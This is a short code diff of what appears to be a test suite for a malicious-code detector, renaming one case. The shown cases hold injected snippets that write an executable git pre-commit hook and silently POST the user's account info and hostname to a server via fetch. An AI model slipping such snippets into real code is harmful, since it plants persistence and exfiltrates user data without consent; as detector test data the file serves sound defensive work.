@@ -67,7 +67,7 @@ export default [
         files('.ssh')),
     mutation('git-hook-written', OS,
         'fsOfCalls.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\ntrue\\n", { mode: 0o755 });', files('.git/hooks', 'pre-commit')),
-    mutation('clipboard-of-host-facts', OS,
+    mutation('host-facts-sent', OS,
         (server) => `fetch("${own(server)}", { method: "POST", body: JSON.stringify({ who: osOfCalls.userInfo(), host: osOfCalls.hostname() }) }).catch(() => {});`,
         accept('secret-flow telemetry env-access payload-field', 'userInfo', 'hostname', 'user', 'host name'), ['handler', 'api']),
 ];
